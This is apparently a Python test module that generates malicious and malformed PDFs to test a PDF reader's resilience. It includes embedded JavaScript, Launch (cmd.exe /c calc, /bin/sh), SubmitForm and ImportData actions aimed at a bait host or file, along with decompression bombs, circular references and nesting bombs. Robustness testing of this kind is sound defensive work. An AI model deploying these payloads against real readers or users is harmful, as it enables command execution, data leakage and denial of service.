"""PDFs that are circular, bottomless, broken, or want to do something."""

import zlib

from tests.store.hostile.case import Case
from tests.store.readers.raw_pdf import raw_pdf, stream

SECONDS = 4.0
"""The process that opens PDFs starts an interpreter of its own."""
TEXT = b"BT /F 12 Tf 72 700 Td (Meeting of the county council) Tj ET"
READ = "Meeting of the county council"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(*objects, root=1, more=b"", version=b"1.7"):
    """A PDF of these objects, numbered from 1 on."""
    made, places = b"%PDF-" + version + b"\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root %d 0 R%s>>\n" % (size, table, size, root, more)
    return made + head + b"startxref\n%d\n%%%%EOF" % len(made)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
    b"/XObject<</X 6 0 R>>>>%s>>"
)


def document(
    *, catalogue=b"", pages=b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page=b"", content=TEXT, more=b"null", last=()
):
    return pdf(CATALOGUE % catalogue, pages, PAGE % page, stream(content), _FONT, more, *last)


def acting(kind, bait):
    """Actions when the document is opened, when its page is shown, by a link, by a name."""
    host = bait.address.encode()
    actions = {
        "JavaScript": b"<</S/JavaScript/JS(app.launchURL\\('%s'\\); this.exportDataObject\\({cName:'a'}\\))>>" % host,
        "Launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "URI": b"<</S/URI/URI(%s)>>" % host,
        "SubmitForm": b"<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % host,
        "GoToR": b"<</S/GoToR/F(%s)/D[0/Fit]>>" % bait.file.encode(),
        "ImportData": b"<</S/ImportData/F(%s)>>" % bait.file.encode(),
    }
    action = actions[kind]
    return document(
        catalogue=b"/OpenAction %s/AA<</WC %s/O %s>>/Names<</JavaScript<</Names[(a)%s]>>>>" % ((action,) * 4),
        page=b"/AA<</O %s>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>]" % (action, action),
    )


def outside(bait):
    """A page whose content is said to be in another file, and a font too."""
    host = bait.address.encode()
    content = b"<</Length 0/F<</FS/URL/F(%s)>>/FFilter/FlateDecode>>stream\n\nendstream" % host
    return pdf(CATALOGUE % b"", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % b"", content, _FONT, b"null")


def tree(depth):
    """Nodes of pages, each in the one before."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (at + 3, at + 1) for at in range(depth)]
    last = depth + 2
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (last - 1)
    return pdf(CATALOGUE % b"", *nodes, page)


def object_stream_bomb():
    """Compressed objects that unpack to hundreds of megabytes."""
    return _compressed(bytes(400_000_000))


def filters(times=30):
    """A content that is packed over and over."""
    inner = TEXT
    for _ in range(times):
        inner = zlib.compress(inner)
    names = b"[" + b"/FlateDecode" * times + b"]"
    content = b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(inner), names, inner)
    return pdf(CATALOGUE % b"", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % b"", content, _FONT, b"null")


def _compressed(inner):
    packed = zlib.compress(inner, 9)
    content = b"<</Type/ObjStm/N 1000/First 10/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return pdf(CATALOGUE % b"", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % b"", stream(TEXT), _FONT, content)


def previous(loop):
    """Tables of objects that name each other as the one before."""
    whole = document()
    at = whole.rindex(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % (at if loop else 10**12))


def fonts():
    """Type 3 glyphs that paint themselves."""
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/FirstChar 97"
        b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/Resources<</Font<</F 5 0 R>>>>>>"
    )
    return raw_pdf(b"BT /F 12 Tf 50 700 Td (aaaa) Tj ET", font, stream(b"BT /F 1 Tf (aa) Tj ET"))


def map_bomb():
    """A map of characters that names more than there are."""
    names = b"1 beginbfrange <0000> <FFFF> <0000> endbfrange " * 30_000
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return raw_pdf(TEXT, font, stream(b"begincmap " + names + b"endcmap"))


CASES = {
    **{
        f"an action: {kind}": Case(lambda bait, k=kind: acting(k, bait), "a.pdf", "", READ, SECONDS)
        for kind in ("JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "ImportData")
    },
    "content elsewhere": Case(outside, "a.pdf", "without any text", seconds=SECONDS),
    "pages of themselves": Case(
        lambda _: document(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>"), "a.pdf", "", READ, SECONDS
    ),
    "a page that is its parent": Case(
        lambda _: document(page=b"/Kids[3 0 R]/Parent 3 0 R"), "a.pdf", says="without any text", seconds=SECONDS
    ),
    "a length that is its stream": Case(
        lambda _: document(more=b"<</Length 6 0 R>>stream\nxxx\nendstream", content=TEXT + b" /X Do"),
        "a.pdf",
        "",
        READ,
        SECONDS,
    ),
    "two billion pages": Case(
        lambda _: document(pages=b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"),
        "a.pdf",
        reads="Meeting",
        seconds=SECONDS,
    ),
    "minus one page": Case(
        lambda _: document(pages=b"<</Type/Pages/Kids[3 0 R]/Count -1>>"), "a.pdf", "", READ, SECONDS
    ),
    "a deep tree of pages": Case(lambda _: tree(20_000), "a.pdf", ".", seconds=SECONDS),
    "arrays in arrays": Case(lambda _: document(more=b"[" * 1_000_000), "a.pdf", "", READ, SECONDS),
    "arrays in arrays in the catalogue": Case(
        lambda _: document(catalogue=b"/A " + b"[" * 500_000 + b"]" * 500_000),
        "a.pdf",
        reads="Meeting",
        seconds=SECONDS,
    ),
    "dictionaries in dictionaries": Case(
        lambda _: document(page=b"/A" + b"<</A" * 200_000 + b" 1" + b">>" * 200_000),
        "a.pdf",
        reads="Meeting",
        seconds=SECONDS,
    ),
    "arrays in arrays in the content": Case(
        lambda _: document(content=b"[" * 2_000_000 + b" " + TEXT), "a.pdf", says="without any text", seconds=SECONDS
    ),
    "saved states": Case(lambda _: document(content=b"q " * 2_000_000 + TEXT), "a.pdf", "", READ, SECONDS),
    "a table that is its own past": Case(lambda _: previous(True), "a.pdf", "", READ, SECONDS),
    "a table beyond the file": Case(lambda _: previous(False), "a.pdf", "", READ, SECONDS),
    "no table": Case(lambda _: document().split(b"xref\n0")[0] + b"trailer<</Root 1 0 R>>", "a.pdf", "", READ, SECONDS),
    "a table of lies": Case(lambda _: document().replace(b" 00000 n", b" 99999 n"), "a.pdf", "", READ, SECONDS),
    "sizes of lies": Case(lambda _: document().replace(b"/Size 7", b"/Size 2147483647"), "a.pdf", "", READ, SECONDS),
    "a bomb of objects": Case(lambda _: object_stream_bomb(), "a.pdf", "", READ, SECONDS),
    "a bomb of content": Case(
        lambda _: document(content=TEXT + b" " * 600_000_000),
        "a.pdf",
        says="too much memory",
        seconds=SECONDS,
        megabytes=1200,
    ),
    "packed thirty times": Case(lambda _: filters(), "a.pdf", "", READ, SECONDS),
    "glyphs of themselves": Case(lambda _: fonts(), "a.pdf", says="which characters", seconds=SECONDS),
    "a map that is a bomb": Case(lambda _: map_bomb(), "a.pdf", reads="", seconds=SECONDS),
    "a page of kilometres": Case(
        lambda _: document().replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]"),
        "a.pdf",
        says="without any text",
        seconds=SECONDS,
    ),
    "a picture of gigabytes": Case(
        lambda _: document(
            more=b"<</Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 8"
            b"/ColorSpace/DeviceRGB/Length 3>>stream\nabc\nendstream",
            content=TEXT + b" q 500 0 0 500 0 0 cm /X Do Q",
        ),
        "a.pdf",
        "",
        READ,
        SECONDS,
    ),
    "an odd version": Case(lambda _: document().replace(b"%PDF-1.7", b"%PDF-9.9"), "a.pdf", "", READ, SECONDS),
}
